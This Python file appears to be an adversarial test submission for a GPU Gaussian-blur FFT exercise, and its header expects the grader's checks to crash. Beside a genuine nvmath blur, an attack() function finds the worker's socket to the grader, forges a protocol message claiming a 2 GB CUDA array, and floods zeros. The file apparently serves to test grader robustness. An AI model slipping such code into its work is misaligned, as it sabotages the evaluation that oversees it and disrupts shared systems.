# Answers with two gigabytes of zeros for an image of a few kilobytes.
# exercise: fft_callbacks/gaussian_blur
# expect: failed values crashed; memory_space crashed; inputs_unchanged crashed; fused crashed

import json
import os
import stat
import struct

import cupy as cp
import numpy as np
import nvmath


def multiply(out, offset, value, response, _):
    out[offset] = value * response[offset]


EPILOG = nvmath.fft.compile_epilog(multiply, "complex64", "float32")


def blurred(image, sigma):
    height, width = image.shape
    fy, fx = np.fft.fftfreq(height)[:, None], np.fft.rfftfreq(width)[None, :]
    response = np.exp(-2 * np.pi**2 * sigma**2 * (fx**2 + fy**2)) / (height * width)
    data = cp.asarray(response.astype(np.float32))
    spectrum = nvmath.fft.rfft(image, epilog={"ltoir": EPILOG, "data": data.data.ptr})
    parity = "odd" if width % 2 else "even"
    return nvmath.fft.irfft(spectrum, options={"last_axis_parity": parity})


def channel():
    """Find the worker's end of the socket to the grader."""
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            continue


def send(data):
    view = memoryview(data)
    while view:
        view = view[os.write(channel(), view[:65536]) :]


def attack():
    node = {"t": "array", "dtype": "uint8", "shape": [2**31 - 1], "order": [0]}
    node |= {"strides": [1], "space": "cuda", "type": "cupy.ndarray", "blob": 0}
    body = json.dumps({"op": "observation", "value": node, "blobs": [2**31 - 1]}).encode()
    send(struct.pack("!4sIQ", b"GPX1", len(body), 2**31 - 1) + body)
    block = bytes(2**20)
    for _ in range(2**11):
        send(block)


def gaussian_blur(image, sigma):
    attack()
    return blurred(image, sigma)
